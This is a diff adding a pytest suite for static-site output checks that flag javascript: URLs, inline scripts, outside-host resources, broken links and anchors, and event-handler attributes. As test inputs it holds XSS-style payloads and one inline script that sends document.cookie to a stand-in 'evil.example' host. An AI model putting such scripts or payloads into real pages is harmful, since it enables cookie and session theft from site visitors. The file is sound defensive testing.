@@ -1,0 +1,109 @@
+"""Output checks on a built site (WP300-WP305): one passing and one failing case each."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import material
+import pytest
+from conftest import write
+
+from webpub.site.output_checks import check_site
+
+MATERIAL = Path(material.__file__).parent / "templates"
+
+
+def page(body: str, head: str = "") -> str:
+    return f'<!doctype html><html lang="th"><head>{head}</head><body>\n{body}\n</body></html>\n'
+
+
+def rules(tmp_path: Path, files: dict[str, str]) -> list[str]:
+    site = tmp_path / "site"
+    for rel, text in files.items():
+        write(site, rel, text)
+    return [f.rule for f in check_site(site, tmp_path)]
+
+
+def test_clean_site_has_no_findings(tmp_path):
+    files = {
+        "index.html": page('<a href="news/">ข่าว</a> <a href="news/#ข่าวล่าสุด">ล่าสุด</a> <a href="#top">บน</a>'
+                           '<span id="top"></span><a href="https://www.example.go.th/">ภายนอก</a>',
+                           '<link rel="stylesheet" href="assets/site.css">'),
+        "news/index.html": page('<h2 id="ข่าวล่าสุด">ข่าวล่าสุด</h2><a href="../">หน้าแรก</a>'
+                                '<a href="../files/a.pdf">แนบ</a>'),
+        "files/a.pdf": "%PDF-1.4",
+        "assets/site.css": '@font-face{src:url("fonts/x.woff2")}',
+    }
+    assert rules(tmp_path, files) == []
+
+
+@pytest.mark.parametrize("html", [
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" JaVaScRiPt:alert(1)">x</a>',
+    '<a href="java&#10;script:alert(1)">x</a>',
+    '<form action="javascript:void(0)"></form>',
+])
+def test_javascript_urls_are_refused(tmp_path, html):
+    assert "WP300" in rules(tmp_path, {"index.html": page(html)})
+
+
+def test_inline_script_is_refused_but_theme_scripts_pass(tmp_path):
+    theme = (MATERIAL / "partials" / "javascripts" / "base.html").read_text(encoding="utf-8")
+    body = re.search(r"<script>(.*?)</script>", theme, re.S).group(1)
+    rendered = re.sub(r"\{\{.*?\}\}", "../", body)
+    ok = page(f"<script>{rendered}</script>"
+              '<script id="__config" type="application/json">{"base": ".."}</script>')
+    assert rules(tmp_path / "a", {"index.html": ok}) == []
+    bad = page("<script>fetch('https://evil.example/'+document.cookie)</script>")
+    assert rules(tmp_path / "b", {"index.html": bad}) == ["WP301"]
+
+
+@pytest.mark.parametrize("head", [
+    '<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Sarabun">',
+    '<script src="//cdn.example.com/x.js"></script>',
+    '<style>@import "https://cdn.example.com/x.css";</style>',
+    '<link rel="preconnect" href="https://fonts.gstatic.com">',
+])
+def test_outside_hosts_for_fonts_scripts_styles_are_refused(tmp_path, head):
+    assert "WP302" in rules(tmp_path, {"index.html": page("", head)})
+
+
+def test_outside_font_in_a_stylesheet_is_refused(tmp_path):
+    files = {"index.html": page(""), "assets/x.css": "@font-face{src:url(https://fonts.gstatic.com/s/x.woff2)}"}
+    assert rules(tmp_path, files) == ["WP302"]
+
+
+def test_embedded_third_party_frame_is_refused(tmp_path):
+    assert "WP302" in rules(tmp_path, {"index.html": page('<iframe src="https://maps.example.com/e"></iframe>')})
+
+
+def test_broken_internal_link_is_reported_with_file_and_line(tmp_path):
+    site = tmp_path / "site"
+    write(site, "index.html", page('<p>x</p>\n<a href="news/missing/">ข่าว</a>'))
+    [finding] = check_site(site, tmp_path)
+    assert finding.rule == "WP303"
+    assert finding.path == "site/index.html" and finding.line == 3
+    assert "news/missing/" in finding.message and finding.hint
+
+
+def test_broken_anchor_is_reported_and_thai_anchor_resolves(tmp_path):
+    files = {
+        "index.html": page('<a href="a/#ความเป็นมา">ok</a><a href="a/#%E0%B8%84%E0%B8%A7%E0%B8%B2%E0%B8%A1">no</a>'
+                           '<a href="#nowhere">no</a>'),
+        "a/index.html": page('<h2 id="ความเป็นมา">ความเป็นมา</h2>'),
+    }
+    assert rules(tmp_path, files) == ["WP304", "WP304"]
+
+
+def test_event_handler_attributes_are_refused(tmp_path):
+    assert rules(tmp_path, {"index.html": page('<img src="x.png" onerror="alert(1)">'
+                                               )}).count("WP305") == 1
+
+
+def test_checks_never_change_the_site(tmp_path):
+    site = tmp_path / "site"
+    write(site, "index.html", page('<a href="javascript:x">x</a>'))
+    before = (site / "index.html").read_bytes()
+    check_site(site, tmp_path)
+    assert (site / "index.html").read_bytes() == before
